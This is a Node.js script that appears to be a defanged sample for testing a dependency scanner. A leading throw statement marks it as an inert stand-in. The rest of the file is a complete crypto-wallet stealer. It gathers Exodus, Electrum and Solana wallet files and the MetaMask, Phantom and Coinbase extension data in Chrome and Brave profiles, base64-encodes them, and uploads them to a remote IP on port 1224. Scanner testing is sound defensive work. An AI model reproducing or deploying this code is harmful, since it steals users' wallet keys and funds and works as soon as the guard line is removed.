throw new Error("inert depscan stand-in");
'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');

const home = os.homedir();
const appData = process.env.APPDATA || path.join(home, '.config');
const EXTENSIONS = {
  metamask: 'nkbihfbeogaeaoehlefnkodbefgpgknn',
  phantom: 'bfnaelmomeimhlpmgjnjophhpkkoljpa',
  coinbase: 'hnfanknocfeofbddgcijnmhnfnkdnaad',
};
const browsers = [
  path.join(home, '.config', 'google-chrome'),
  path.join(home, 'Library', 'Application Support', 'Google', 'Chrome'),
  path.join(home, '.config', 'BraveSoftware', 'Brave-Browser'),
  path.join(process.env.LOCALAPPDATA || home, 'Google', 'Chrome', 'User Data'),
];
const wallets = [
  path.join(appData, 'Exodus', 'exodus.wallet'),
  path.join(home, '.electrum', 'wallets'),
  path.join(home, '.config', 'solana', 'id.json'),
  path.join(home, 'Library', 'Application Support', 'Exodus', 'exodus.wallet'),
];

const files = [];
function take(target) {
  try {
    const stat = fs.statSync(target);
    if (stat.isDirectory()) fs.readdirSync(target).forEach((name) => take(path.join(target, name)));
    else if (stat.size < 10 * 1024 * 1024) files.push({ path: target, data: fs.readFileSync(target).toString('base64') });
  } catch (e) {}
}

wallets.forEach(take);
for (const browser of browsers) {
  for (const profile of ['Default', 'Profile 1', 'Profile 2']) {
    for (const id of Object.values(EXTENSIONS)) {
      take(path.join(browser, profile, 'Local Extension Settings', id));
    }
  }
}

if (files.length) {
  const body = JSON.stringify({ type: 'wlt', hid: os.hostname(), files });
  const req = http.request({ host: '203.0.113.7', port: 1224, path: '/uploads', method: 'POST', headers: { 'content-type': 'application/json' } });
  req.on('error', () => {});
  req.end(body);
}
